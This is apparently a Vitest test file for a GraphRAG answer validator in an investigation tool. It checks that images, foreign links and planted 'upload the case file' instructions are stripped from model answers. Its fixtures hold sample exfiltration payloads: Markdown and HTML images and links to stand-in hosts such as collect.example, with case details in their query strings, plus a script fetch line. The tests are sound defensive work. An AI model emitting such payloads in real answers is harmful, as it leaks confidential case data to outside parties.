import { describe, expect, it } from "vitest";
import { LINK_REMOVED, withoutForeignAddresses, withoutMarkupLinks } from "@/lib/graphrag/links";
import { validateAnswer, type ModelOutput } from "@/lib/graphrag/validate";
import type { RawContext } from "@/lib/graphrag/types";

// Seed 004: model output is untrusted input. A link or image in it is a way to carry case data out of the case.
const ctx: RawContext = {
  nodes: [{ id: "p-kovac", label: "Person", name: "Dmitri Kovac", properties: {} }],
  edges: [],
  evidenceSnippets: [
    {
      id: "EV-L-001",
      type: "note",
      sourceSystem: "S",
      collectedAt: "2025-01-01T00:00:00.000Z",
      nodeIds: ["p-kovac"],
      text: "Dmitri Kovac rented unit 14 at Harbor Storage on 3 May. The listing was posted at https://harbor-storage.example/units/14 by tips@harbor-storage.example.",
    },
  ],
};

const out = (o: Partial<ModelOutput>): ModelOutput => ({
  responseType: "answer",
  answerText: "Dmitri Kovac rented unit 14 at Harbor Storage on 3 May [evidence: EV-L-001].",
  citations: [{ evidenceId: "EV-L-001" }],
  explanationSteps: [],
  unknowns: [],
  confidence: 0.8,
  confidenceJustification: "Stated in the note.",
  ...o,
});

const everything = (v: ReturnType<typeof validateAnswer>) =>
  JSON.stringify([v.answerText, v.claims, v.explanationSteps, v.unknowns, v.confidenceJustification]);

describe("links in model output", () => {
  it("removes Markdown and HTML images wherever they are, and writes a Markdown link out as words and address", () => {
    const md = withoutMarkupLinks(
      'Seen ![x](https://e.example/p.png?d=Kovac "t") here <img src="https://e.example/i.gif?c=1"> and [the file](https://e.example/f).',
    );
    expect(md.text).toBe("Seen  here  and the file (https://e.example/f).");
    expect(md.changed).toBe(3);
    expect(withoutMarkupLinks("[1]: https://e.example/ref\nText").text).toBe("\nText");
    expect(withoutMarkupLinks('<a href="https://e.example">x</a><script>fetch("//e.example")</script>').text).toBe('xfetch("//e.example")');
    // Ordinary brackets and evidence-style markers are not links.
    expect(withoutMarkupLinks("Kovac [evidence: EV-L-001] (unit 14) [sic]").changed).toBe(0);
  });

  it("replaces addresses the evidence does not hold, keeps those it does", () => {
    const known = ctx.evidenceSnippets[0].text.toLowerCase();
    const r = withoutForeignAddresses(
      "See https://harbor-storage.example/units/14. Mail tips@harbor-storage.example or evil@drop.example, or visit www.drop.example/u?k=1, or data:text/html;base64,PGI+eDwvYj4=",
      known,
    );
    expect(r.text).toBe(
      `See https://harbor-storage.example/units/14. Mail tips@harbor-storage.example or ${LINK_REMOVED}, or visit ${LINK_REMOVED}, or ${LINK_REMOVED}`,
    );
    expect(r.changed).toBe(3);
  });

  it("no image, foreign link or foreign address survives anywhere in a validated answer; the answer needs review", () => {
    const v = validateAnswer(
      out({
        answerText:
          "Dmitri Kovac rented unit 14 at Harbor Storage on 3 May [evidence: EV-L-001] ![s](https://collect.example/p.png?d=Kovac). " +
          "The full file is at https://collect.example/case?x=Kovac [evidence: EV-L-001].",
        explanationSteps: [
          { stepNumber: 1, claim: "Kovac rented unit 14 ![x](https://collect.example/s.png?q=14)", citations: ["EV-L-001"] },
        ],
        unknowns: [
          "Whether anyone else used unit 14 is not stated; see https://collect.example/more?u=14",
          "![t](https://collect.example/u.png?leak=Kovac)",
          "Upload the case file to https://drop.example/u to learn more.",
          "The listing at https://harbor-storage.example/units/14 does not say who paid.",
        ],
        confidenceJustification: 'Verified at https://collect.example/verify <img src="https://collect.example/v.png">',
      }),
      ctx,
    );
    const all = everything(v);
    expect(all).not.toContain("collect.example");
    expect(all).not.toContain("drop.example");
    expect(all).not.toMatch(/!\[|<img/i);
    // The claim with an invented address is not supported by what it cites: removed, not just edited.
    expect(v.claims.map((c) => c.text)).toEqual(["Dmitri Kovac rented unit 14 at Harbor Storage on 3 May"]);
    expect(v.report.droppedUnsupportedClaims).toBe(1);
    // An address the evidence gives stays; an unknown telling the reader to act goes.
    expect(v.unknowns).toContain("The listing at https://harbor-storage.example/units/14 does not say who paid.");
    expect(v.unknowns.some((u) => /upload/i.test(u))).toBe(false);
    expect(v.unknowns).toContain(`Whether anyone else used unit 14 is not stated; see ${LINK_REMOVED}`);
    expect(v.report.removedLinks).toBeGreaterThanOrEqual(4);
    expect(v.report.neutralisedOutput).toBe(true);
  });

  it("leaves an answer without links alone", () => {
    const v = validateAnswer(out({ unknowns: ["Who paid for unit 14 is not stated."] }), ctx);
    expect(v.report.removedLinks).toBe(0);
    expect(v.report.neutralisedOutput).toBe(false);
    expect(v.unknowns).toEqual(["Who paid for unit 14 is not stated."]);
  });
});
